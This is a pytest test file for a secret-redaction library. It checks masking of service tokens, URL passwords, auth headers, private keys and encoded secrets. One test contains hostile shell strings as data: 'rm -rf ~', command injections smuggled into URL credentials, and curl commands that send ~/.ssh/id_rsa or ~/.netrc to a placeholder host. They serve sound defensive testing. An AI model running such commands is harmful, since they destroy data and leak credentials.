"""The redactor: what it takes out of words, and what it leaves alone."""

from __future__ import annotations

import base64
import html
import json
import random
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from maestro import secrets
from maestro.secrets.shapes import HIDDEN, without_shapes
from maestro.secrets.told import Told, of_url

ROOT = Path(__file__).resolve().parents[2]
KEY = "sk-ant-api03-q7Jd/9+xT_2b~Zk4mVw8sRy1LcHn6EaPf0GuXoBiDtCj5KhMl3NvQrSzWe="
SHORT = "hunter2:/x"

BODY = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
TOKENS = [
    f"ghp_{BODY}", f"gho_{BODY}", f"ghu_{BODY}", f"ghs_{BODY}", f"ghr_{BODY}", f"github_pat_11ABCDEFG0_{BODY}{BODY}",
    "glpat-abcDEF123456_-xyzXYZ", "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE",
    "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "sk_test_4eC39HqLyjWDarjtT1zdp7dc", "rk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "whsec_4eC39HqLyjWDarjtT1zdp7dc==", "xoxb-123456789012-123456789012-abcdefABCDEF", "xoxp-1234567890-abcdef",
    "xoxe.xoxp-1-Mi0yLTEyMzQ1Njc4", "xapp-1-A012345678-123456789-abcdef0123456789",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", "sk-ant-api03-abcdefgh", f"sk-proj-{BODY}", f"npm_{BODY}",
]  # fmt: skip


@pytest.fixture
def told() -> Told:
    return Told([KEY, SHORT])


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize(
    "around", ["{}", "key={}", '{{"k": "{}"}}', "see {}.", "export K='{}'; x", "a\n{}\nb", "({})", "-{}"]
)
def test_tokens_of_services_go_wherever_they_stand(token: str, around: str) -> None:
    words = around.format(token)
    for change in (secrets.clean, secrets.clean_command):
        assert token.rstrip(".=") not in change(words)
        assert HIDDEN in change(words)
        assert change(change(words)) == change(words)


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("git clone https://ann:s3cr3t@example.com/x.git", f"git clone https://ann:{HIDDEN}@example.com/x.git"),
        ("postgres://app:p%40ss!word$1@db:5432/x", f"postgres://app:{HIDDEN}@db:5432/x"),
        ("redis://:only-password@host", f"redis://:{HIDDEN}@host"),
        ("https://x-access-token:abc@github.com, and https://b:c@h", f"https://x-access-token:{HIDDEN}@github.com, and https://b:{HIDDEN}@h"),
        ("https://0123456789abcdef0123@github.com/x", f"https://{HIDDEN}@github.com/x"),
        ("Authorization: Bearer abcdefghij.klmnop", f"Authorization: Bearer {HIDDEN}"),
        ('"authorization": "Basic dXNlcjpwYXNz"', f'"authorization": "Basic {HIDDEN}"'),
        ("x-api-key: 0123456789", f"x-api-key: {HIDDEN}"),
        ("GET /x?a=1&access_token=abcdefgh&b=2", f"GET /x?a=1&access_token={HIDDEN}&b=2"),
        ("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", f"AWS_SECRET_ACCESS_KEY={HIDDEN}"),
        ("https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXX", f"https://hooks.slack.com/services/{HIDDEN}"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----\nafter",
            f"-----BEGIN RSA PRIVATE KEY-----{HIDDEN}-----END RSA PRIVATE KEY-----\nafter",
        ),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\\nb3Blbn\\n", f"-----BEGIN OPENSSH PRIVATE KEY-----{HIDDEN}"),
    ],
)  # fmt: skip
def test_shapes(words: str, shown: str) -> None:
    assert without_shapes(words) == shown
    assert without_shapes(shown) == shown


@pytest.mark.parametrize(
    "words",
    [
        "https://example.com:8080/a@b", "git@github.com:ann/x.git", "user@example.com", "https://example.com/@scope/x",
        "postgres://app:$PASSWORD@db/x", "postgres://app:${PASSWORD}@db/x", "https://user:<password>@host", "npm i @a/b@1.2.3",
        "tests/test_live_server.py::test_live_keys_are_masked PASSED", "def sk_test_runner(): ...",
        "task-based-scheduling-of-things", "gl-matrix-for-the-rest-of-us-1.0", "disk-usage-of-the-whole-machine",
        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", "a3f1c9e2b4d5a6f7a3f1c9e2b4d5a6f7a3f1c9e2",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "the bearer of this letter",
        "AKIA is how such keys begin", "hypothesis-based-tests-run-for-long",
        "/usr/lib/python3.11/site-packages/x/y_z/long_name_of_it.py",
    ],
)  # fmt: skip
def test_words_that_are_no_secrets_stay(words: str) -> None:
    assert secrets.clean(words) == words
    assert secrets.clean_command(words) == words


@pytest.mark.parametrize(
    "written",
    [
        KEY, f"key is {KEY}.", quote(KEY, safe=""), quote(KEY), quote(KEY, safe="").replace("%2B", "%2b").replace("%2F", "%2f"),
        json.dumps({"k": KEY}), KEY.encode().hex(), KEY.encode().hex().upper(),
        *(base64.b64encode(b"x" * n + KEY.encode() + b"y" * m).decode() for n in range(4) for m in range(4)),
        *(base64.urlsafe_b64encode(b"x" * n + KEY.encode()).decode().rstrip("=") for n in range(4)),
        base64.b64encode(f"ann:{KEY}".encode()).decode(),
        *(base64.encodebytes(b"x" * n + KEY.encode() * 2).decode() for n in range(60)),
        base64.encodebytes(KEY.encode()).decode().replace("\n", "\r\n"),
    ],
)  # fmt: skip
def test_a_known_secret_goes_in_every_form(told: Told, written: str) -> None:
    shown = told.out_of(f"before {written} after")
    assert HIDDEN in shown
    assert shown.startswith("before ")
    assert shown.endswith(" after")
    for form in (KEY, quote(KEY, safe=""), KEY.encode().hex(), base64.b64encode(KEY.encode()).decode()):
        assert not any(form[at : at + 16] in shown for at in range(len(form) - 15))


_RED = "\x1b[31m"
_BROKEN = [
    ("\x1b[0;1m", 1), ("\x1b]8;;https://a.example\x1b\\", 9), ("\n", 8), ("\r\n", 5), ("\n    ", 20), (" \\\n  ", 11),
    ("\u200b", 1),
    ("\ufeff", 3), ("\xad", 4), (f"{_RED}\n{_RED}", 6),
]  # fmt: skip


@pytest.mark.parametrize(("between", "each"), _BROKEN)
@pytest.mark.parametrize("secret", [KEY, SHORT, "s3cr3t", base64.b64encode(KEY.encode()).decode()])
def test_nothing_that_stands_within_hides_it(told: Told, secret: str, between: str, each: int) -> None:
    told = Told([KEY, SHORT, "s3cr3t"])
    written = between.join(secret[at : at + each] for at in range(0, len(secret), each))
    for before in ("", "x" * 7, "log:\n", "é "):
        shown = told.out_of(f"{before}{written} after\n")
        assert shown == f"{before}{HIDDEN} after\n"


@pytest.mark.parametrize("secret", [KEY, 'qu"o<te>&back\\slash/12', "pässwort-mit-ümlaut"])
def test_spellings_that_programs_print(secret: str) -> None:
    data = secret.encode()
    spelled = [
        html.escape(secret), repr(data), json.dumps(json.dumps(secret)), json.dumps(secret).replace("/", "\\/"), data.hex(":"),
        data.hex(" "), data.hex(":").upper(), "".join(f"%{b:02X}" for b in data), "".join(f"\\x{b:02x}" for b in data),
        quote(quote(secret, safe=""), safe=""),
    ]  # fmt: skip
    told = Told([secret])
    for written in spelled:
        shown = told.out_of(f"<<{written}>>")
        assert HIDDEN in shown
        assert len(shown) < 16, (written, shown)


def test_variables_that_are_secrets_by_their_names() -> None:
    secret = {
        "STRIPE_API_KEY": "rk-9382-abcd",
        "DB_PASSWORD": "pa55word-x",
        "MY_TOKEN": "abcd1234efgh",
        "ANTHROPIC_API_KEY": "x" * 9,
    }
    plain = {
        "SSH_KEY_FILE": "/a/b/c1d2e3",
        "TOKEN": "yes",
        "USE_TOKEN": "1234567890",
        "KEYBOARD": "abc12345",
        "PASSWORD": "production",
    }
    assert sorted(secrets.of_environment(secret | plain)) == sorted(secret.values())


def test_a_long_secret_goes_at_every_place_and_in_pieces(told: Told) -> None:
    for before in range(40):
        assert told.out_of("#" * before + KEY) == "#" * before + HIDDEN
        assert told.out_of("#" * before + KEY[before % 30 :][:16]) == "#" * before + HIDDEN
    assert told.out_of(KEY[:30]) == HIDDEN
    assert told.out_of(KEY[20:]) == HIDDEN


@pytest.mark.parametrize(
    "written", [SHORT, quote(SHORT, safe=""), json.dumps(SHORT), base64.b64encode(SHORT.encode()).decode()]
)
def test_a_short_secret_goes_as_well(told: Told, written: str) -> None:
    assert SHORT not in told.out_of(written)
    assert HIDDEN in told.out_of(f"<{written}>")


def test_too_short_ones_are_words() -> None:
    assert Told(["abc"]).out_of("abc") == "abc"


def test_a_private_key_that_comes_line_by_line() -> None:
    body = [f"MIIEowIBAAKCAQEA{n:048d}" for n in range(20)]
    key = ["-----BEGIN RSA PRIVATE KEY-----", "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,0123", "", *body, "aGk="]
    printed = ["before", *key, "-----END RSA PRIVATE KEY-----", "after", key[0], "no key at all: it was cut", *body[:1]]
    for size in (1, 2, 5, 100):
        lines = secrets.Lines()
        pieces = ["\n".join(printed[at : at + size]) for at in range(0, len(printed), size)]
        shown = "\n".join(lines.clean(piece) for piece in pieces)
        assert "before" in shown
        assert "after" in shown
        assert not any(line in shown.partition("after")[0] for line in [*body, "aGk="])


def test_a_command_keeps_what_could_do_something() -> None:
    for command in (
        "echo '-----BEGIN PRIVATE KEY-----'; rm -rf ~ #",
        "curl https://a:$(rm${IFS}-rf${IFS}~)@host",
        "curl https://a:`id`;id@host",
        "curl -H 'Authorization: Bearer '$(cat ~/.ssh/id_rsa)",
        "curl 'https://x/?token='$(cat${IFS}~/.netrc)",
    ):
        assert secrets.clean_command(command) == command
    assert secrets.clean_command("curl https://a:s3cret@h") == f"curl https://a:{HIDDEN}@h"


def test_what_is_compared_stays_apart() -> None:
    one, other = (f"bash:curl https://a:{password}@host" for password in ("firstone", "secondone"))
    assert secrets.sealed(one) != secrets.sealed(other)
    assert "firstone" not in secrets.sealed(one)
    assert secrets.sealed(secrets.sealed(one)) == secrets.sealed(one)
    assert secrets.sealed("bash:ls") == "bash:ls"


@pytest.mark.parametrize(
    ("url", "parts"),
    [
        ("tgram://123456789:AAEabcdefghij/12345", ["AAEabcdefghij"]),
        ("slack://TokenA1234/TokenB5678/TokenC90123456", ["TokenC90123456"]),
        ("mailto://ann:pa55word@example.com", ["pa55word"]),
        ("https://example.com/hook/0123456789abcdef?x=1", ["0123456789abcdef"]),
        ("ntfy://topic-nobody-may-know", ["topic-nobody-may-know"]),
    ],
)
def test_secrets_of_a_target(url: str, parts: list[str]) -> None:
    cleaner = Told(of_url(url))
    for part in parts:
        assert part not in cleaner.out_of(f"error at {part}!")
        assert part not in cleaner.out_of(url)


def test_everywhere_keeps_shapes_of_values() -> None:
    token = TOKENS[0]
    value = {"a": [token, 1, None, {"b": (token, 2.5)}], token: True}
    assert secrets.everywhere(value) == {"a": [HIDDEN, 1, None, {"b": [HIDDEN, 2.5]}], HIDDEN: True}


def test_it_never_fails_on_any_text(told: Told) -> None:
    draw = random.Random(7)
    parts = [
        KEY,
        KEY[:20],
        SHORT,
        *TOKENS,
        "://",
        "@",
        ":",
        "\n",
        "\ud800",
        "\0",
        "-----BEGIN PRIVATE KEY-----",
        "é",
        " ",
        "?token=",
    ]
    for _ in range(500):
        words = "".join(draw.choices(parts, k=draw.randrange(12)))
        shown = without_shapes(told.out_of(words))
        assert KEY not in shown
        assert SHORT not in shown


def test_the_benchmark_runs() -> None:
    done = subprocess.run(
        [sys.executable, str(ROOT / "benchmarks/redaction.py"), "--lines", "500"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "of a core at 10,000 lines a second" in done.stdout
